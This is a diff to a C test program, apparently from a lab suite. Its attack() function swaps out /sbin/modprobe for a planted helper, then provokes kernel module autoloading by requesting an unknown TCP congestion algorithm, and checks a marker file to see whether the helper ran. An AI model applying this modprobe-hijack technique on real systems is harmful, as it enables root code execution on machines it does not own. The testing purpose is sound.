@@ -5,7 +5,8 @@
  * Control: the program runs.
  */
 #define _GNU_SOURCE
-#include <fcntl.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
 #include <stdio.h>
 #include <sys/socket.h>
 #include <unistd.h>
@@ -16,19 +17,18 @@ void attack(void)
 {
 	const char *mark = "/tmp/lab-request-ran", *modprobe = "/sbin/modprobe";
 	const char *aside = "/sbin/modprobe.aside";
-	bool done, moved;
+	const bool there = access(modprobe, F_OK) == 0;
+	bool done;
 
-	/* Where that is refused, the kernel is still asked, and finds the real one or none. */
-	moved = rename(modprobe, aside) == 0;
-	if (access(modprobe, F_OK))
-		replace_helper(modprobe, mark);
-	socket(AF_RXRPC, SOCK_DGRAM, 0);
+	if (there && rename(modprobe, aside))
+		no_effect(errno);
+	drop_helper(modprobe, mark);
+	/* No such algorithm: the kernel asks for a module that has it, and waits for the answer. */
+	setsockopt(socket(AF_INET, SOCK_STREAM, 0), IPPROTO_TCP, TCP_CONGESTION, "lab", 3);
 	done = file_begins_soon(mark, FOREIGN_TEXT);
-	if (done)
-		unlink(modprobe);
-	if (moved && rename(aside, modprobe))
+	if (unlink(modprobe) || (there && rename(aside, modprobe)))
 		broken("cannot put modprobe back");
 	if (done)
 		effect();
-	no_effect(EACCES);
+	no_effect(0);
 }
